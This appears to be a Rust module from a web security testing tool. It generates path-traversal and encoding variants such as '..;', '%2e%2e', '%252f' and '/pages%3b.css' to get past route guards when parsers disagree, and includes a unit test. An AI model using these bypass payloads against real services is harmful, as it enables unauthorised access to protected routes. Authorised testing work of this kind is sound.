//! Targets that one parser reads as the path of a guarded route and another one does not.

/// Segments that some parser reads as "the segment above", or "this one".
const DOTS: [&str; 10] =
    ["..", ".", "%2e%2e", "%2E.", ".%2e", "..;", "..;x=1", "%252e%252e", "..%00", "%c0%ae%c0%ae"];

/// What some parser reads as the end of a segment.
const SLASHES: [&str; 9] = ["/", "//", "\\", "%2f", "%5c", ";/", "/;x=1/", "%252f", "/./"];

/// Targets that lead from below `open` to `guarded`. Both are paths, such as `/open/x` and
/// `/pages`.
pub(super) fn across(open: &str, guarded: &str) -> Vec<String> {
    let segments = open.split('/').filter(|segment| !segment.is_empty()).count();
    let guarded = guarded.trim_start_matches('/');
    let mut targets = Vec::new();
    for dot in DOTS {
        for slash in SLASHES {
            let up = format!("{slash}{dot}").repeat(segments);
            targets.push(format!("{open}{up}{slash}{guarded}"));
        }
        targets.push(format!("/{dot}/{guarded}"));
    }
    targets.push(format!("{open}?/../../{guarded}"));
    targets.push(format!("/{guarded}?{open}"));
    targets.push(format!("/{guarded};{open}"));
    targets.push(format!("/{guarded}%3f{open}"));
    targets.push(format!("/{guarded}%23{open}"));
    targets
}

/// Other spellings of a guarded path.
pub(super) fn spellings(guarded: &str) -> Vec<String> {
    let bare = guarded.trim_start_matches('/');
    let mut letters = bare.chars();
    let first = letters.next().unwrap_or_default();
    let rest = letters.as_str();
    let mut targets = vec![
        guarded.to_owned(),
        format!("//{bare}"),
        format!("///{bare}"),
        format!("/./{bare}"),
        format!("/%2e/{bare}"),
        format!("/;/{bare}"),
        format!("/x/../{bare}"),
        format!("/x/%2e%2e/{bare}"),
        format!("/x%2f..%2f{bare}"),
        format!("\\{bare}"),
        format!("/\\{bare}"),
        format!("/{bare}/"),
        format!("/{bare}/."),
        format!("/{bare}/x/.."),
        format!("/{bare};x=1"),
        format!("/{bare}%00"),
        format!("/{bare}%20"),
        format!("/{bare}%0a"),
        format!("/{bare}%09"),
        format!("/{bare}."),
        format!("/{bare}.css"),
        format!("/{bare}%3b.css"),
        format!("/{bare}?access_token=none"),
        format!("/{}", bare.to_uppercase()),
    ];
    if first.is_ascii_alphanumeric() {
        targets.push(format!("/%{:02x}{rest}", u32::from(first)));
        targets.push(format!("/%25{:02x}{rest}", u32::from(first)));
    }
    targets.retain(|target| target.starts_with('/'));
    targets.dedup();
    targets
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_target_leads_from_the_open_path_to_the_guarded_one() {
        let targets = across("/open/x", "/pages");
        for expected in ["/open/x/../../pages", "/open/x%2f%2e%2e%2f%2e%2e%2fpages", "/..;/pages"] {
            assert!(targets.iter().any(|target| target == expected), "{expected}");
        }
        assert!(spellings("/pages").contains(&"/%70ages".to_owned()));
        assert!(targets.iter().chain(&spellings("/")).all(|target| target.starts_with('/')));
    }
}
